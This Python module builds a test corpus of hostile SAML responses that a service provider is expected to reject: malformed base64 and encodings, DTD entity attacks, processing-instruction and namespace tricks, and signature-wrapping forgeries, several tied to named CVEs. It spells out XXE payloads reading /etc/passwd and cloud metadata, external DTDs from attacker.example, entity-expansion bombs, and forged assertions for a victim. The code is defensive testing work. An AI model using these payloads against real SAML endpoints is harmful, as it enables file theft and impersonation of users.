"""Documents that two readers read differently: bytes, base64, DTDs, namespaces, and XML that is none."""

import base64
import zlib

from .corpus import Form
from .forgery import FORGED
from .signer import sign, sign_response
from .text import ASSERTION_TEXT, MESSAGE, STATUS, edit, element
from .world import ALICE, ASSERTION, DSIG, IDP, PROTOCOL, SUCCESS, VICTIM

DOCTYPE = "xml-doctype"
MALFORMED = "xml-malformed"
UTF8 = "encoding-not-utf8"
BASE64 = "base64-invalid"
FOREIGN = "xml-namespace-foreign"
INSTRUCTION = "xml-processing-instruction"
NOT_A_RESPONSE = "not-a-response"


def add(corpus):
    base64_values(corpus)
    encodings(corpus)
    doctypes(corpus)
    instructions(corpus)
    malformed(corpus)
    roots(corpus)
    namespaces(corpus)


def base64_values(corpus):
    corpus.group = "base64"
    signed = sign(MESSAGE)
    value = base64.b64encode(signed.encode()).decode()
    assert value.endswith("=") and not value.endswith("=="), "the cases below want one character of padding"
    middle = len(value) // 2

    def refuse(name, story, text, expect=BASE64):
        corpus.refuse(f"base64-{name}", story, expect, Form(text))

    refuse("empty", "The form value is empty.", "")
    refuse(
        "space",
        "A space in the middle, as a `+` becomes when a proxy decodes the form twice.",
        value[:middle] + " " + value[middle:],
    )
    refuse(
        "garbage",
        "A character that is not of the alphabet, which lenient decoders skip.",
        value[:middle] + "!" + value[middle:],
    )
    refuse(
        "url-alphabet",
        "The alphabet of URLs.",
        base64.urlsafe_b64encode(
            signed.replace("<samlp:Status>", "<samlp:Status>\n<!--???>>>~~~ÿÿÿ-->").encode()
        ).decode(),
    )
    refuse("no-padding", "The padding is missing.", value.rstrip("="))
    refuse("too-much-padding", "One character of padding too many.", value + "=")
    refuse(
        "padding-inside",
        "Padding in the middle, and text behind it.",
        base64.b64encode(signed[:100].encode()).decode() + value,
    )
    refuse(
        "trailing-bits",
        "The last character carries bits that no octet takes: two spellings of one message.",
        trailing_bits(value),
    )
    refuse("percent", "The value is still percent-encoded.", value[:-1] + "%3D")
    refuse("nul", "A NUL in the middle.", value[:middle] + "\0" + value[middle:])
    refuse("not-ascii", "A character outside ASCII in the middle.", value[:middle] + "é" + value[middle:])
    refuse("twice", "Base64 of base64.", base64.b64encode(value.encode()).decode(), MALFORMED)
    refuse("xml-itself", "XML that was not encoded at all.", signed)
    deflated = zlib.compress(signed.encode())[2:-4]
    refuse(
        "deflated",
        "The message is deflated, as the Redirect binding does; the POST binding never inflates.",
        base64.b64encode(deflated).decode(),
        UTF8,
    )


def trailing_bits(value):
    """The same octets, spelled with another last character."""
    alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"
    last = alphabet.index(value[-2])
    return value[:-2] + alphabet[last | 1] + "="


def encodings(corpus):
    corpus.group = "encodings"
    signed = sign(MESSAGE)
    raw = signed.encode()
    place = raw.index(ALICE.encode())
    for name, encoding in (("utf-16-le", "utf-16-le"), ("utf-16-be", "utf-16-be")):
        bom = "\ufeff".encode(encoding)
        corpus.refuse(
            f"encoding-{name}", f"The document is {name} with its mark.", UTF8, bom + signed.encode(encoding)
        )
    corpus.refuse(
        "encoding-utf-16-unmarked",
        "The document is UTF-16 without a mark: its octets are also UTF-8, with NULs.",
        UTF8,
        signed.encode("utf-16-le"),
    )
    corpus.refuse("encoding-utf-32", "The document is UTF-32.", UTF8, signed.encode("utf-32"))
    corpus.refuse(
        "encoding-latin-1",
        "The document is ISO-8859-1 and does not say so.",
        UTF8,
        sign(MESSAGE.replace(">ops<", ">Büro<")).encode("latin-1"),
    )
    for declared in ("ISO-8859-1", "UTF-16", "UTF-7", "windows-1252", "EBCDIC-CP-US"):
        corpus.refuse(
            f"encoding-declared-{declared.lower()}",
            f"The octets are UTF-8, the declaration says {declared}: readers that believe it read other text.",
            UTF8,
            f'<?xml version="1.0" encoding="{declared}"?>\n{signed}',
        )
    utf7 = signed.replace(">ops<", ">+ADw-ops+AD4-<")
    corpus.refuse(
        "encoding-utf-7-content",
        "Declared as UTF-7 with markup hidden in it.",
        UTF8,
        f"<?xml version='1.0' encoding='utf-7'?>{utf7}",
    )
    corpus.refuse(
        "encoding-overlong",
        "An overlong UTF-8 sequence for `<`.",
        UTF8,
        raw[:place] + b"\xc0\xbc" + raw[place:],
    )
    corpus.refuse(
        "encoding-surrogate", "A surrogate in UTF-8.", UTF8, raw[:place] + b"\xed\xa0\x80" + raw[place:]
    )
    corpus.refuse(
        "encoding-truncated",
        "A UTF-8 sequence that breaks off.",
        UTF8,
        raw[:place] + b"\xe2\x82" + raw[place:],
    )
    corpus.refuse(
        "encoding-beyond-unicode",
        "A UTF-8 sequence beyond U+10FFFF.",
        UTF8,
        raw[:place] + b"\xf5\x80\x80\x80" + raw[place:],
    )
    corpus.refuse(
        "encoding-nul",
        "A NUL in the NameID, where C readers stop.",
        MALFORMED,
        raw[:place] + ALICE.encode() + b"\0" + raw[place + len(ALICE) :],
    )
    corpus.refuse(
        "encoding-control-character",
        "A control character that XML 1.0 does not allow.",
        MALFORMED,
        raw[:place] + b"\x01" + raw[place:],
    )
    corpus.refuse(
        "encoding-noncharacter",
        "U+FFFE, which XML 1.0 does not allow.",
        MALFORMED,
        raw[:place] + "\ufffe".encode() + raw[place:],
    )
    corpus.refuse(
        "encoding-reference-nul",
        "A character reference to NUL.",
        MALFORMED,
        edit(signed, f">{ALICE}</saml:NameID>", f">{ALICE}&#0;</saml:NameID>"),
    )
    corpus.refuse(
        "encoding-reference-surrogate",
        "Character references to a surrogate pair.",
        MALFORMED,
        edit(signed, f">{ALICE}</saml:NameID>", f">{ALICE}&#xD83D;&#xDE00;</saml:NameID>"),
    )
    corpus.refuse(
        "encoding-reference-beyond",
        "A character reference beyond Unicode.",
        MALFORMED,
        edit(signed, f">{ALICE}</saml:NameID>", f">{ALICE}&#x110000;</saml:NameID>"),
    )
    corpus.refuse(
        "encoding-reference-overflow",
        "A character reference that is `a` modulo 2^32.",
        MALFORMED,
        edit(signed, f">{ALICE}</saml:NameID>", f">{ALICE}&#x100000061;</saml:NameID>"),
    )
    corpus.refuse(
        "xml-1-1",
        "The document says that it is XML 1.1, in which other characters are white space.",
        MALFORMED,
        f'<?xml version="1.1"?>\n{signed}',
    )


def doctypes(corpus):
    corpus.group = "document types and entities"
    signed = sign(MESSAGE)

    def refuse(name, story, doctype, document=signed, expect=DOCTYPE):
        corpus.refuse(f"doctype-{name}", story, expect, doctype + document)

    name_id = f">{ALICE}</saml:NameID>"
    refuse("empty", "A document type that declares nothing.", "<!DOCTYPE Response>\n")
    refuse(
        "lower-case",
        "A document type in small letters, which is not XML.",
        "<!doctype Response>\n",
        expect=MALFORMED,
    )
    refuse(
        "internal-entity",
        "An entity takes the place of the name (CVE-2018-0486, Shibboleth).",
        f'<!DOCTYPE Response [<!ENTITY who "{VICTIM}">]>\n',
        edit(signed, name_id, ">&who;</saml:NameID>"),
    )
    laughs = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 10))
    refuse(
        "billion-laughs",
        "Ten entities, each ten times the one before.",
        f'<!DOCTYPE Response [<!ENTITY e0 "lol">{laughs}]>\n',
        edit(signed, ">ops<", ">&e9;<"),
    )
    refuse(
        "quadratic",
        "One long entity, two thousand times.",
        f'<!DOCTYPE Response [<!ENTITY e "{"A" * 50000}">]>\n',
        edit(signed, ">ops<", f">{'&e;' * 2000}<"),
    )
    refuse(
        "external-entity-file",
        "An entity reads a file.",
        '<!DOCTYPE Response [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n',
        edit(signed, ">ops<", ">&x;<"),
    )
    refuse(
        "external-entity-http",
        "An entity is fetched.",
        '<!DOCTYPE Response [<!ENTITY x SYSTEM "http://169.254.169.254/">]>\n',
        edit(signed, ">ops<", ">&x;<"),
    )
    refuse(
        "external-subset",
        "The document type is fetched.",
        '<!DOCTYPE Response SYSTEM "http://attacker.example/x.dtd">\n',
    )
    refuse(
        "public-subset",
        "The document type has a public name.",
        '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd">\n',
    )
    refuse(
        "parameter-entity",
        "A parameter entity brings declarations from outside.",
        '<!DOCTYPE Response [<!ENTITY % p SYSTEM "http://attacker.example/x.dtd"> %p;]>\n',
    )
    refuse(
        "default-attribute",
        "A default value gives the evil element an ID that it does not write.",
        '<!DOCTYPE Response [<!ATTLIST saml:Subject ID CDATA "_assertion">]>\n',
    )
    refuse(
        "id-type",
        "An attribute list makes Name an ID.",
        "<!DOCTYPE Response [<!ATTLIST saml:Attribute Name ID #IMPLIED>]>\n",
    )
    refuse(
        "notation",
        "A notation declaration with markup in its name, which two parsers read differently (CVE-2025-25291, ruby-saml).",
        """<!DOCTYPE Response [<!NOTATION x SYSTEM "'><!--"><!ENTITY y "-->">]>\n""",
    )
    hidden = element(signed, "saml:Assertion").replace('"', "'").replace("%", "&#37;")
    evil = element(FORGED, "saml:Assertion").replace('"_assertion"', '"_evil"')
    refuse(
        "entity-hides-assertion",
        "The signed assertion is the text of an entity; readers that do not expand it see the evil one only.",
        f'<!DOCTYPE Response [<!ENTITY signed "{hidden}">]>\n',
        edit(
            edit(MESSAGE, ASSERTION_TEXT, evil),
            "  <samlp:Status>",
            "  <samlp:Extensions>&signed;</samlp:Extensions>\n  <samlp:Status>",
        ),
    )
    refuse(
        "after-declaration",
        "The document type stands behind an XML declaration and a comment.",
        '<?xml version="1.0" encoding="UTF-8"?><!-- x -->\n<!DOCTYPE Response>\n',
    )
    corpus.refuse(
        "doctype-inside",
        "A document type inside the document.",
        MALFORMED,
        edit(signed, "  <samlp:Status>", "  <!DOCTYPE x><samlp:Status>"),
    )
    corpus.refuse(
        "doctype-after-root", "A document type behind the root.", MALFORMED, signed + "<!DOCTYPE x>"
    )
    corpus.refuse(
        "entity-undeclared",
        "A reference to an entity that nothing declares.",
        MALFORMED,
        edit(signed, ">ops<", ">&who;<"),
    )
    corpus.refuse(
        "entity-unclosed", "An ampersand that begins no reference.", MALFORMED, edit(signed, ">ops<", ">R&D<")
    )


def instructions(corpus):
    corpus.group = "processing instructions"
    signed = sign(MESSAGE)
    corpus.refuse(
        "instruction-before-root",
        "A style sheet instruction before the root.",
        INSTRUCTION,
        '<?xml-stylesheet href="http://attacker.example/x.xsl"?>' + signed,
    )
    corpus.refuse(
        "instruction-after-root", "An instruction behind the root.", INSTRUCTION, signed + "<?x y?>"
    )
    corpus.refuse(
        "instruction-in-nameid",
        "An instruction splits the NameID, as a comment does (CVE-2018-0489, Shibboleth).",
        INSTRUCTION,
        edit(
            sign(MESSAGE.replace(f">{ALICE}</saml:NameID>", f">{ALICE}<?x y?>.evil.com</saml:NameID>")),
            "<?x y?>",
            "<?x y?>",
        ),
    )
    corpus.refuse(
        "instruction-between",
        "An instruction stands between two elements of the assertion.",
        INSTRUCTION,
        sign(edit(MESSAGE, "    <saml:Conditions ", "    <?x y?><saml:Conditions ")),
    )
    corpus.refuse(
        "instruction-declaration-inside",
        "A second XML declaration inside the document.",
        MALFORMED,
        edit(signed, "  <samlp:Status>", '  <?xml version="1.0"?><samlp:Status>'),
    )


def malformed(corpus):
    corpus.group = "XML that is none"
    signed = sign(MESSAGE)
    end = "</samlp:Response>\n"
    corpus.refuse("xml-empty-document", "White space alone.", MALFORMED, " \n")
    corpus.refuse("xml-text-only", "Text without an element.", MALFORMED, "hello")
    corpus.refuse("xml-json", "JSON.", MALFORMED, '{"NameID": "admin@example.com"}')
    corpus.refuse(
        "xml-declaration-only",
        "Nothing but an XML declaration.",
        MALFORMED,
        '<?xml version="1.0" encoding="UTF-8"?>',
    )
    corpus.refuse("xml-trailing-text", "Text behind the root.", MALFORMED, signed + "evil")
    corpus.refuse("xml-trailing-tag", "A tag behind the root.", MALFORMED, signed + "<x>")
    corpus.refuse("xml-leading-text", "Text before the root.", MALFORMED, "evil" + signed)
    corpus.refuse(
        "xml-leading-space-before-declaration",
        "White space before the XML declaration.",
        MALFORMED,
        '\n<?xml version="1.0" encoding="UTF-8"?>' + signed,
    )
    corpus.refuse(
        "xml-two-roots",
        "Two roots: an evil response, then the signed one (CVE-2022-39299, passport-saml).",
        MALFORMED,
        FORGED.replace('"_response"', '"_evilr"').replace('"_assertion"', '"_evila"') + signed,
    )
    corpus.refuse(
        "xml-two-roots-evil-last",
        "Two roots: the signed response, then an evil one.",
        MALFORMED,
        signed + FORGED.replace('"_response"', '"_evilr"').replace('"_assertion"', '"_evila"'),
    )
    corpus.refuse("xml-unclosed", "The last tag is missing.", MALFORMED, edit(signed, end, ""))
    corpus.refuse(
        "xml-truncated", "The message breaks off in the middle.", MALFORMED, signed[: len(signed) // 2]
    )
    corpus.refuse(
        "xml-crossed-tags",
        "Tags close in the wrong order.",
        MALFORMED,
        edit(
            signed, "  <samlp:Status>", "  <samlp:Extensions><a><b></a></b></samlp:Extensions><samlp:Status>"
        ),
    )
    corpus.refuse(
        "xml-double-attribute",
        "An attribute is written twice: which ID counts?",
        MALFORMED,
        edit(signed, ' ID="_assertion"', ' ID="_evil" ID="_assertion"'),
    )
    corpus.refuse(
        "xml-double-attribute-namespace",
        "The same qualified attribute under two prefixes.",
        MALFORMED,
        edit(
            signed,
            "  <samlp:Status>",
            '  <samlp:Extensions><x xmlns:a="urn:x" xmlns:b="urn:x" a:y="1" b:y="2"/></samlp:Extensions><samlp:Status>',
        ),
    )
    corpus.refuse(
        "xml-unquoted-attribute",
        "An attribute without quotes.",
        MALFORMED,
        edit(signed, ' ID="_assertion"', " ID=_assertion"),
    )
    corpus.refuse(
        "xml-attribute-without-value",
        "An attribute without a value.",
        MALFORMED,
        edit(signed, "<samlp:Status>", "<samlp:Status hidden>"),
    )
    corpus.refuse(
        "xml-less-than-in-attribute",
        "`<` in an attribute.",
        MALFORMED,
        edit(signed, "<samlp:Status>", '<samlp:Status x="<">'),
    )
    corpus.refuse(
        "xml-attributes-without-space",
        "No white space between two attributes.",
        MALFORMED,
        edit(signed, ' ID="_assertion" Version', ' ID="_assertion"Version'),
    )
    corpus.refuse("xml-cdata-end-in-text", "`]]>` in text.", MALFORMED, edit(signed, ">ops<", ">]]><"))
    corpus.refuse(
        "xml-double-hyphen-in-comment",
        "`--` in a comment: some readers end it there.",
        MALFORMED,
        edit(signed, "  <samlp:Status>", "  <!-- -- --><samlp:Status>"),
    )
    corpus.refuse(
        "xml-comment-unclosed",
        "A comment that never ends.",
        MALFORMED,
        edit(signed, "  <samlp:Status>", "  <!-- <samlp:Status>"),
    )
    corpus.refuse(
        "xml-cdata-unclosed",
        "A CDATA section that never ends.",
        MALFORMED,
        edit(signed, ">ops<", "><![CDATA[ops<"),
    )
    corpus.refuse(
        "xml-unbound-prefix",
        "A prefix that nothing declares.",
        MALFORMED,
        edit(signed, "  <samlp:Status>", "  <q:x/><samlp:Status>"),
    )
    corpus.refuse(
        "xml-unbound-prefix-attribute",
        "An attribute's prefix that nothing declares.",
        MALFORMED,
        edit(signed, "<samlp:Status>", '<samlp:Status q:x="1">'),
    )
    corpus.refuse(
        "xml-two-colons",
        "A name with two colons (CVE-2020-29511, Go's encoding/xml).",
        MALFORMED,
        edit(signed, "  <samlp:Status>", "  <samlp::x/><samlp:Status>"),
    )
    corpus.refuse(
        "xml-colon-first",
        "A name that begins with a colon (CVE-2020-29509, Go's encoding/xml).",
        MALFORMED,
        edit(signed, ' ID="_assertion"', ' :ID="_evil" ID="_assertion"'),
    )
    corpus.refuse(
        "xml-prefix-undeclared-again",
        "A prefix is taken back, which XML 1.0 does not allow.",
        MALFORMED,
        edit(signed, "<samlp:Status>", '<samlp:Status xmlns:saml="">'),
    )
    corpus.refuse(
        "xml-prefix-xmlns",
        "The prefix xmlns is declared.",
        MALFORMED,
        edit(signed, "<samlp:Status>", '<samlp:Status xmlns:xmlns="urn:x">'),
    )
    corpus.refuse(
        "xml-prefix-xml",
        "The prefix xml is bound to something else.",
        MALFORMED,
        edit(signed, "<samlp:Status>", '<samlp:Status xmlns:xml="urn:x">'),
    )
    corpus.refuse(
        "xml-default-namespace-xmlns",
        "The namespace of xmlns is made the default.",
        MALFORMED,
        edit(
            signed,
            "  <samlp:Status>",
            '  <samlp:Extensions><x xmlns="http://www.w3.org/2000/xmlns/"/></samlp:Extensions><samlp:Status>',
        ),
    )
    corpus.refuse(
        "xml-name-begins-with-digit",
        "A name that begins with a digit.",
        MALFORMED,
        edit(signed, "  <samlp:Status>", "  <1x/><samlp:Status>"),
    )


def roots(corpus):
    corpus.group = "other messages"
    signed = sign_response(MESSAGE)
    twin = "rsa-sha256-response"

    def refuse(name, story, document, expect=NOT_A_RESPONSE):
        corpus.refuse(f"root-{name}", story, expect, document, twin=twin)

    refuse("html", "An HTML page, well-formed.", "<html><body>It works!</body></html>")
    refuse(
        "assertion",
        "A signed assertion without a response around it.",
        element(sign(MESSAGE), "saml:Assertion"),
    )
    refuse(
        "authn-request",
        "Our own kind of message comes back.",
        f'<samlp:AuthnRequest xmlns:samlp="{PROTOCOL}" ID="_q" Version="2.0" IssueInstant="2026-01-15T11:59:30Z"/>',
    )
    refuse("logout-response", "A LogoutResponse is a StatusResponseType too.", signed_logout_response())
    refuse(
        "artifact-response",
        "A response inside an ArtifactResponse.",
        f'<samlp:ArtifactResponse xmlns:samlp="{PROTOCOL}" ID="_artifact" Version="2.0" IssueInstant="2026-01-15T11:59:58Z">{STATUS}{signed}</samlp:ArtifactResponse>',
    )
    refuse(
        "soap",
        "A response inside a SOAP envelope.",
        f'<s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/"><s:Body>{signed}</s:Body></s:Envelope>',
    )
    refuse("response-without-namespace", "A response in no namespace.", "<Response/>")
    refuse(
        "response-of-saml-1",
        "A response of SAML 1.1.",
        '<Response xmlns="urn:oasis:names:tc:SAML:1.0:protocol" ResponseID="_r" MajorVersion="1" MinorVersion="1"/>',
    )
    refuse(
        "response-case", "The root is called response.", signed.replace("samlp:Response", "samlp:response")
    )
    refuse(
        "response-other-namespace",
        "A response in a namespace that only looks like SAML's.",
        signed.replace(f'"{PROTOCOL}"', f'"{PROTOCOL}/"'),
    )


def signed_logout_response():
    document = (
        f'<samlp:LogoutResponse xmlns:samlp="{PROTOCOL}" xmlns:saml="{ASSERTION}" ID="_response" Version="2.0" '
        f'IssueInstant="2026-01-15T11:59:58Z"><saml:Issuer>{IDP}</saml:Issuer><samlp:Status>'
        f'<samlp:StatusCode Value="{SUCCESS}"/></samlp:Status></samlp:LogoutResponse>'
    )
    return sign_response(document)


def namespaces(corpus):
    corpus.group = "namespaces"
    signed = sign(MESSAGE)
    evil = element(FORGED, "saml:Assertion").replace('"_assertion"', '"_evil"')
    place = "  <saml:Assertion "
    corpus.refuse(
        "namespace-evil-assertion-foreign",
        "An evil assertion in another namespace stands before the signed one, for readers that look for local names.",
        FOREIGN,
        edit(signed, place, "  " + evil.replace(ASSERTION, "urn:example:evil") + "\n" + place),
    )
    corpus.refuse(
        "namespace-evil-assertion-none",
        "The same in no namespace.",
        FOREIGN,
        edit(
            signed,
            place,
            '  <Assertion ID="_evil"><Subject><NameID>'
            + VICTIM
            + "</NameID></Subject></Assertion>\n"
            + place,
        ),
    )
    corpus.refuse(
        "namespace-evil-assertion-saml-1",
        "The same in the namespace of SAML 1.1.",
        FOREIGN,
        edit(
            signed,
            place,
            "  " + evil.replace(ASSERTION, "urn:oasis:names:tc:SAML:1.0:assertion") + "\n" + place,
        ),
    )
    corpus.refuse(
        "namespace-evil-assertion-protocol",
        "The same in the protocol's namespace.",
        FOREIGN,
        edit(signed, place, '  <samlp:Assertion ID="_evil"/>\n' + place),
    )
    name_id = element(MESSAGE, "saml:NameID")
    corpus.refuse(
        "namespace-nameid-foreign",
        "The identity provider signed a subject with a NameID of another namespace before the real one.",
        FOREIGN,
        sign(edit(MESSAGE, name_id, f'<v:NameID xmlns:v="urn:example:vendor">{VICTIM}</v:NameID>{name_id}')),
    )
    corpus.refuse(
        "namespace-issuer-foreign",
        "The response has an Issuer of another namespace.",
        FOREIGN,
        edit(
            signed,
            "  <samlp:Status>",
            '  <v:Issuer xmlns:v="urn:example:vendor">https://evil.example.com</v:Issuer>\n  <samlp:Status>',
        ),
    )
    corpus.refuse(
        "namespace-status-foreign",
        "A Success of another namespace stands before the real status.",
        FOREIGN,
        edit(
            sign(edit(MESSAGE, SUCCESS, "urn:oasis:names:tc:SAML:2.0:status:Responder")),
            "  <samlp:Status>",
            f'  <v:Status xmlns:v="urn:example:vendor"><v:StatusCode Value="{SUCCESS}"/></v:Status>\n  <samlp:Status>',
        ),
    )
    corpus.refuse(
        "namespace-signature-foreign",
        "The signature is in a namespace that only looks like the right one.",
        FOREIGN,
        edit(signed, f'<ds:Signature xmlns:ds="{DSIG}"', f'<ds:Signature xmlns:ds="{DSIG[:-1]}"'),
    )
    corpus.refuse(
        "namespace-signature-of-xmldsig2",
        "The signature is in the namespace of XML Signature 2.0.",
        FOREIGN,
        edit(
            signed,
            f'<ds:Signature xmlns:ds="{DSIG}"',
            '<ds:Signature xmlns:ds="http://www.w3.org/2010/xmldsig2#"',
        ),
    )
    corpus.refuse(
        "namespace-signed-info-foreign",
        "A SignedInfo of another namespace stands before the real one.",
        FOREIGN,
        edit(signed, "<ds:SignedInfo>", '<v:SignedInfo xmlns:v="urn:example:vendor"/><ds:SignedInfo>'),
    )
    corpus.refuse(
        "namespace-prefix-rebound",
        "The prefix samlp is bound to something else below the root.",
        FOREIGN,
        edit(signed, "<samlp:Status>", '<samlp:Status xmlns:samlp="urn:example:vendor">'),
    )
    corpus.refuse(
        "namespace-prefixes-swapped",
        "The prefixes saml and samlp are exchanged inside the assertion's signature's neighbour Status.",
        FOREIGN,
        edit(
            signed,
            STATUS,
            f'<saml:Status xmlns:saml="{ASSERTION}"><saml:StatusCode Value="{SUCCESS}"/></saml:Status>',
        ),
    )
    for name, uri in (("relative", "./x"), ("empty-path", "x"), ("parent", "../x"), ("query", "?x")):
        corpus.refuse(
            f"namespace-{name}",
            f"A namespace is called {uri}, on which canonicalisation does not agree (Canonical XML 1.0, 1.1).",
            "xml-namespace-relative",
            edit(signed, "<samlp:Status>", f'<samlp:Status xmlns:v="{uri}">'),
        )
